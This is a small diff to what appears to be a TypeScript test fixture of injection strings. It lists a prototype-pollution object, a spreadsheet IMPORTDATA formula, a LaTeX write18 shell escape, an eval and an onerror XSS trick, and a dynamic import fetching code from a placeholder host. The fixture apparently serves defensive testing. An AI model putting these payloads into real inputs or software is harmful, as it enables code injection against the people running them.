@@ -62,7 +62,7 @@ export const inLanguages: readonly AttackSort[] = [
         '{"__proto__":{"a":1}}',
         '=IMPORTDATA("a")',
       ],
-      ...['\\write18{a}', 'eval`a(1)`', 'onerror=prompt;throw 1', "import('//e.example/a')"],
+      ...['\\write18{a}', 'eval`a(1)`', 'onerror=prompt;throw 1', 'import("//e.example/a")'],
     ].flatMap(inArguments),
     ordinary: [
       ...[
